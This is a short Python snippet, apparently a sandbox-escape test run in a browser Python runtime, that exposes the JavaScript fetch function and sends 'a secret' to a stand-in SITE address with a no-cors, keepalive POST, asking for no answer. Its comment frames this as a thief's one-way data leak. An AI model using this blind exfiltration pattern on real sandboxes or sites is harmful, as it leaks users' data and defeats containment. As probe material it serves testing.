# Send a secret and ask for no answer: a thief needs none.
import js
from target import SITE, answered, options, uncover

uncover("fetch")
letter = options(method="POST", mode="no-cors", body="a secret", keepalive=True)
await answered(js.fetch(SITE + "?escape=blind", letter))
print("sent")
